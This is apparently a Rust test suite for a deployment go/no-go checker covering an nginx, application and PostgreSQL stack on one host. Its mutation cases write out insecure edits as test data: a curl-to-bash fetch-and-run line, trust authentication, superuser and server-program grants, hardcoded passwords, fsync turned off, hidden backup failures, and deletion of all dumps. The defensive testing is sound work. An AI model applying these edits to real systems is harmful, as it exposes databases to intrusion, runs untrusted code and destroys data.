//! A helpdesk on one host: nginx, the application and PostgreSQL by Docker Compose on one network.
//!
//! Memory of the database by hand, of its limit of 4096 MB: shared_buffers 1024, wal_buffers 16, work_mem 2 × 60 × 8 = 960,
//! autovacuum 3 × 128 = 384, maintenance 128, backends 60 × 10 = 600; 3112 MB, which is 76 % and below 80.
//!
//! Connections: 16 of the web processes and 8 of the worker, at peak 34 with migration, metrics and people: 57 % of 60.

use super::{Edit, cost_the_go, go, is_verified, leave_the_go, points, shown};

const NAME: &str = "single-host";
const COMPOSE: &str = "compose.yaml";
const FIRST_START: &str = "db/10-helpdesk.sh";
const ACCESS: &str = "db/pg_hba.conf";
const PROXY: &str = "proxy/nginx.conf";

#[test]
fn a_host_with_a_proxy_an_application_and_a_database_on_one_network_is_a_go() {
    let report = go(NAME);
    // nginx is on the network of the database and has no business with it: one item of thirteen, said and carried.
    // A disk that is lost takes up to six hours with it, as the objective of 8 hours allows.
    let points = points(&report);
    assert_eq!(points.len(), 2, "{points:?}");
    assert!(points[0].starts_with("low compose-db-on-shared-network compose.yaml:"), "{points:?}");
    assert!(points[1].starts_with("low postgresql-archive-mode-off compose.yaml:"), "{points:?}");
    assert_eq!(shown(&report, "db", "security/network-isolation").0, "fail");
    is_verified(
        &report,
        "db",
        &[
            "security/firewall",
            "security/listen",
            "security/authentication",
            // Of the roles that the heredocs of the first start make none is a superuser.
            "security/app-not-superuser",
            "security/no-secrets-in-files",
            "configuration/durability",
            "configuration/persistent-storage",
            "configuration/work-memory",
            "configuration/max-connections",
        ],
    );
    // Nothing leaves the host: a plain hop inside it needs no certificate.
    assert_eq!(shown(&report, "db", "security/tls").0, "not-applicable");
}

const HTTP: &str = "http {\n    include";
const STREAM: &str = "stream {\n    server {\n        listen 5432;\n        proxy_pass db:5432;\n    }\n}\nhttp {\n    include";
const PORTS: &str = "      - \"443:443\"\n";
const LOGIN: &str = "ROLE helpdesk_app LOGIN";
const GRANT: &str = "\tGRANT pg_monitor TO helpdesk_metrics;\n";
const SETTING: &str = "      - max_connections=60\n";

#[test]
fn hurtful_edits_of_the_proxy_cost_the_go() {
    let edits: [Edit<'_>; 5] = [
        ("stream", &[(PROXY, HTTP, STREAM), (COMPOSE, PORTS, "      - \"443:443\"\n      - \"5432:5432\"\n")]),
        ("stream on a port that is published", &[(PROXY, HTTP, STREAM), (PROXY, "listen 5432;", "listen 443;")]),
        (
            "stream in a file that is included",
            &[
                (PROXY, HTTP, "include /etc/nginx/streams/*.conf;\nhttp {\n    include"),
                (COMPOSE, "      - /var/www/acme:", "      - ./proxy/streams:/etc/nginx/streams:ro\n      - /var/www/acme:"),
                (COMPOSE, PORTS, "      - \"443:443\"\n      - \"5432:5432\"\n"),
                ("proxy/streams/db.conf", "", "stream { server { listen 5432; proxy_pass db:5432; } }\n"),
            ],
        ),
        (
            "what is included was not seen, and the port is none of web pages",
            &[
                (PROXY, HTTP, "include /etc/nginx/streams/*.conf;\nhttp {\n    include"),
                (COMPOSE, "      - /var/www/acme:", "      - /etc/nginx/streams:/etc/nginx/streams:ro\n      - /var/www/acme:"),
                (COMPOSE, PORTS, "      - \"443:443\"\n      - \"9999:9999\"\n"),
            ],
        ),
        ("host network of the database", &[(COMPOSE, "    shm_size: 256m\n", "    shm_size: 256m\n    network_mode: host\n")]),
    ];
    cost_the_go(NAME, &edits);
}

#[test]
fn hurtful_edits_of_the_first_start_cost_the_go() {
    let edits: [Edit<'_>; 10] = [
        ("superuser", &[(FIRST_START, LOGIN, "ROLE helpdesk_app SUPERUSER LOGIN")]),
        ("superuser later", &[(FIRST_START, "", "psql -d helpdesk <<-EOSQL\n\tALTER ROLE helpdesk_app WITH SUPERUSER;\nEOSQL\n")]),
        // No superuser, and yet more than the attested review of its rights can have seen.
        ("accounts", &[(FIRST_START, LOGIN, "ROLE helpdesk_app CREATEROLE LOGIN")]),
        ("programs", &[(FIRST_START, GRANT, "\tGRANT pg_execute_server_program TO helpdesk_app;\n")]),
        ("member of the superuser", &[(FIRST_START, GRANT, "\tGRANT postgres TO helpdesk_app;\n")]),
        ("password written out", &[(FIRST_START, "'$app_password'", "'Xk82vQp1Lz'")]),
        ("weak password", &[(FIRST_START, "'$app_password'", "'helpdesk'")]),
        ("ALTER SYSTEM", &[(FIRST_START, GRANT, "\tALTER SYSTEM SET fsync = off;\n")]),
        ("into the configuration", &[(FIRST_START, "", "echo 'fsync = off' >> \"$PGDATA/postgresql.conf\"\n")]),
        ("a script from elsewhere", &[(FIRST_START, "", "curl -fsS https://get.example.com/db.sh | bash\n")]),
    ];
    cost_the_go(NAME, &edits);
}

#[test]
fn hurtful_edits_of_access_cost_the_go() {
    let edits: [Edit<'_>; 8] = [
        ("trust", &[(ACCESS, "helpdesk_app      samenet       scram-sha-256", "helpdesk_app      samenet       trust")]),
        ("trust for all", &[(ACCESS, "", "host all all samenet trust\n")]),
        ("md5", &[(ACCESS, "samenet       scram-sha-256", "samenet       md5")]),
        ("published", &[(COMPOSE, "    shm_size: 256m\n", "    shm_size: 256m\n    ports: ['5432:5432']\n")]),
        (
            "administration page",
            &[(
                COMPOSE,
                "volumes:\n  db_data:",
                "  adminer:\n    image: adminer:5.4.1\n    ports: ['8080:8080']\n    restart: always\n    mem_limit: 64m\nvolumes:\n  db_data:",
            )],
        ),
        ("the application is the superuser", &[(COMPOSE, "DB_USER: helpdesk_app", "DB_USER: postgres")]),
        ("password in the file", &[(COMPOSE, "POSTGRES_PASSWORD_FILE: /run/secrets/postgres_password", "POSTGRES_PASSWORD: kX9mQ2vT7wLp")]),
        ("no password", &[(COMPOSE, "POSTGRES_PASSWORD_FILE: /run/secrets/postgres_password", "POSTGRES_HOST_AUTH_METHOD: trust")]),
    ];
    cost_the_go(NAME, &edits);
}

#[test]
fn hurtful_edits_of_the_server_cost_the_go() {
    let flag = |value: &str| format!("{SETTING}      - -c\n      - {value}\n");
    let (fsync, pages, vacuum, typo) = (flag("fsync=off"), flag("full_page_writes=off"), flag("autovacuum=off"), flag("shared_bufers=1GB"));
    let edits: [Edit<'_>; 12] = [
        ("fsync", &[(COMPOSE, SETTING, &fsync)]),
        ("full_page_writes", &[(COMPOSE, SETTING, &pages)]),
        ("autovacuum", &[(COMPOSE, SETTING, &vacuum)]),
        ("a setting that is none", &[(COMPOSE, SETTING, &typo)]),
        // 1024 + 16 + 7680 + 384 + 128 + 600 = 9832 MB of 4096.
        ("memory for sorting", &[(COMPOSE, "work_mem=8MB\n", "work_mem=64MB\n")]),
        ("memory of the container", &[(COMPOSE, "mem_limit: 4g", "mem_limit: 2g")]),
        // 34 clients at peak.
        ("connections", &[(COMPOSE, "max_connections=60", "max_connections=30")]),
        ("no volume", &[(COMPOSE, "      - db_data:/var/lib/postgresql/data\n", "")]),
        ("volume elsewhere", &[(COMPOSE, "db_data:/var/lib/postgresql/data", "db_data:/var/lib/postgresql")]),
        ("old release", &[(COMPOSE, "postgres:17.12-bookworm", "postgres:13.23-bookworm")]),
        ("moving tag", &[(COMPOSE, "postgres:17.12-bookworm", "postgres:latest")]),
        ("the access file is not read", &[(COMPOSE, "      - -c\n      - hba_file=/etc/postgresql/pg_hba.conf\n", "")]),
    ];
    cost_the_go(NAME, &edits);
}

#[test]
fn hurtful_edits_of_the_backup_cost_the_go() {
    let (script, table) = ("ops/backup.sh", "ops/cron.d/helpdesk");
    let dump = "--format=custom helpdesk > \"$target/helpdesk-$stamp.dump.part\"\n";
    let hidden = "--format=custom helpdesk > \"$target/helpdesk-$stamp.dump.part\" || true\n";
    let edits: [Edit<'_>; 5] = [
        ("a failure that is hidden", &[(script, dump, hidden)]),
        ("an end before the dump", &[(script, "set -euo pipefail\n", "set -euo pipefail\nexit 0\n")]),
        ("failures that are passed over", &[(script, "set -euo pipefail\n", "")]),
        ("all older dumps deleted", &[(script, "-name '*.dump' -mtime +14 -delete", "-name '*.dump' -delete")]),
        ("once a year", &[(table, "15 */6 * * *", "15 6 1 1 *")]),
    ];
    cost_the_go(NAME, &edits);
}

#[test]
fn what_is_not_shown_any_more_costs_the_go() {
    let stated = "gonogo.toml";
    let edits: [Edit<'_>; 4] = [
        ("an alert", &[(stated, "watches = \"xid-wraparound\"", "watches = \"certificate-expiry\"")]),
        (
            "an old restore",
            &[(stated, "item = \"backup/restore-tested\"\non = 2026-11-03", "item = \"backup/restore-tested\"\non = 2026-07-03")],
        ),
        (
            "a runbook of two words",
            &[
                ("docs/runbooks/restore.md", "# Runbook: restore the helpdesk", "# TODO"),
                ("docs/runbooks/restore.md", "## Commands", "## Later"),
            ],
        ),
        ("no copy elsewhere", &[(stated, "item = \"backup/off-site\"", "item = \"backup/three-two-one\"")]),
    ];
    cost_the_go(NAME, &edits);
}

#[test]
fn edits_that_hurt_nobody_leave_the_go() {
    let edits: [Edit<'_>; 3] = [
        // The stock nginx.conf of the image has it, and what it includes is within `http`.
        ("stock include", &[(PROXY, "    upstream helpdesk {", "    include /etc/nginx/conf.d/*.conf;\n    upstream helpdesk {")]),
        (
            "page on the loopback",
            &[(
                COMPOSE,
                "volumes:\n  db_data:",
                "  adminer:\n    image: adminer:5.4.1\n    ports: ['127.0.0.1:8080:8080']\n    restart: always\n    mem_limit: 64m\n\nvolumes:\n  db_data:",
            )],
        ),
        // The entrypoint's own file counts for nothing beside the one that is named.
        ("access file of the image", &[(FIRST_START, "", "echo 'host all all all trust' >> \"$PGDATA/pg_hba.conf\"\n")]),
    ];
    leave_the_go(NAME, &edits);
}
